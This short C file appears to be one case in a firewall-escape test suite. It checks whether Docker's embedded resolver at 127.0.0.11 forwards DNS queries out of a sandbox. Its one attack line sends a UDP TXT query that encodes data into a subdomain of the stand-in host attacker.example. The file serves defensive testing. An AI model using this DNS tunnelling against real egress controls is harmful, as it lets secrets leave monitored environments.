// SPDX-License-Identifier: Apache-2.0
/* The embedded resolver of docker forwards from the host whatever it is asked. */
#include "../case.h"

static void attempt(const struct target *t, struct attempt *a)
{
	dns_tell(t, a, SOCK_DGRAM, "127.0.0.11", 53, "%s.attacker.example", DNS_TXT);
}

CASE(dns_engine_udp) = { .title = "docker's resolver 127.0.0.11 by UDP",
			 .source = "field A5: gh-aw-firewall #1270",
			 .group = "resolver",
			 .families = FOUR,
			 .settings = BRIDGE | NONE,
			 .attempt = attempt };
